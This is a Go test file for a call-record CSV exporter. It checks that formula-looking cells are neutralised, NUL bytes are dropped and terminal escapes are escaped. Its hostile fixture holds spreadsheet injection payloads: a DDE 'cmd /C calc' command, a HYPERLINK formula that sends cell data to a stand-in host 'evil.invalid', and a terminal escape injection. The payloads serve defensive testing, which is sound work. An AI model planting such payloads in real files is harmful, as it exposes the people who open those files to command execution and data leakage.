package cdr

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"
)

// hostileRecord holds what a hostile caller and a broken PBX can put in a record's text.
func hostileRecord() Record {
	return Record{
		UniqueID:      "=1+1",
		Start:         time.Date(2026, 11, 20, 9, 33, 0, 0, time.FixedZone("", 2*3600)),
		CallType:      CallInbound,
		Extension:     "@SUM(1)",
		FriendlyName:  "-2+3",
		DialledNumber: "+1 (555) 010-9999",
		CallerID:      `=HYPERLINK("http://evil.invalid/?"&A1,"call back")`,
		Disposition:   DispAnswered,
		DurationS:     221,
		BillableS:     216,
		RecordingSize: 365211,
		Recording:     `=cmd|' /C calc'!A0`,
		AccountCode:   "\t=1",
		Channel:       "+cmd",
		DestChannel:   "SIP/8266\x00-0001",
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	r := hostileRecord()
	for _, tc := range []struct {
		name string
		raw  bool
		want []string
	}{
		{"default", false, []string{"'=1+1", "2026-11-20T09:33:00+02:00", "inbound", "'@SUM(1)", "'-2+3",
			"+1 (555) 010-9999", `'=HYPERLINK("http://evil.invalid/?"&A1,"call back")`, "answered", "221", "216",
			"365211", `'=cmd|' /C calc'!A0`, "'\t=1", "'+cmd", "SIP/8266-0001"}},
		{"raw", true, []string{"=1+1", "2026-11-20T09:33:00+02:00", "inbound", "@SUM(1)", "-2+3",
			"+1 (555) 010-9999", `=HYPERLINK("http://evil.invalid/?"&A1,"call back")`, "answered", "221", "216",
			"365211", `=cmd|' /C calc'!A0`, "\t=1", "+cmd", "SIP/8266-0001"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := NewCSVWriter(&buf)
			if tc.raw {
				w = NewRawCSVWriter(&buf)
			}
			if err := w.Write(&r); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if bytes.IndexByte(buf.Bytes(), 0) >= 0 {
				t.Errorf("a NUL byte reached the CSV: %q", buf.String())
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 {
				t.Fatalf("got %d rows", len(rows))
			}
			for i, want := range tc.want {
				if rows[1][i] != want {
					t.Errorf("%s = %q, want %q", Columns[i], rows[1][i], want)
				}
			}
		})
	}
}

// Numbers are never prefixed, and phone numbers read as the PBX sent them.
func TestCSVLeavesNumbersAndPhoneNumbers(t *testing.T) {
	r := Record{UniqueID: "1362123180.67", CallType: CallInbound, Extension: "8266", CallerID: "+27 82 123 4567",
		DialledNumber: "-5", Disposition: DispAnswered, DurationS: 0, BillableS: Unknown, RecordingSize: 0}
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	w.Write(&r)
	w.Flush()
	line := strings.Split(buf.String(), "\n")[1]
	if want := "1362123180.67,,inbound,8266,,-5,+27 82 123 4567,answered,0,,0,,,,"; line != want {
		t.Errorf("got  %s\nwant %s", line, want)
	}
}

// BenchmarkCSVWriter compares the neutralising writer with the raw one on ordinary rows.
func BenchmarkCSVWriter(b *testing.B) {
	r := Record{UniqueID: "1362123180.67", Start: time.Date(2026, 11, 20, 9, 33, 0, 0, time.UTC),
		CallType: CallInbound, Extension: "8266", CallerID: `"Smith, John" <0821234567>`, DialledNumber: "+27 82 123 4567",
		Disposition: DispAnswered, DurationS: 221, BillableS: 216, RecordingSize: 365211,
		Recording: "g8266-20130301-093300-1362123180.67.gsm", FriendlyName: "Smith, John", Channel: "SIP/8266-0001"}
	for _, bc := range []struct {
		name string
		new  func(w io.Writer) *CSVWriter
	}{{"neutralised", NewCSVWriter}, {"raw", NewRawCSVWriter}} {
		b.Run(bc.name, func(b *testing.B) {
			w := bc.new(io.Discard)
			b.ReportAllocs()
			for b.Loop() {
				w.Write(&r)
			}
			w.Flush()
		})
	}
}

// A CSV shown on a terminal (calls --format csv without a redirect) is for a person: its cells are cleaned for
// the terminal as well.
func TestCSVForTerminal(t *testing.T) {
	r := hostileRecord()
	r.CallerID = "\x1b]0;PWNED\x07\x1b[31m"
	r.FriendlyName = "a\nb"
	for _, raw := range []bool{false, true} {
		var buf bytes.Buffer
		w := NewCSVWriter(&buf)
		if raw {
			w = NewRawCSVWriter(&buf)
		}
		w.ForTerminal()
		w.Write(&r)
		w.Flush()
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][6]; got != `\x1b]0;PWNED\x07\x1b[31m` {
			t.Errorf("raw %v: caller_id %q", raw, got)
		}
		if got := rows[1][4]; got != `a\nb` {
			t.Errorf("raw %v: friendly_name %q", raw, got)
		}
		if got, want := rows[1][0], map[bool]string{false: "'=1+1", true: "=1+1"}[raw]; got != want {
			t.Errorf("raw %v: unique_id %q, want %q", raw, got, want)
		}
	}
}
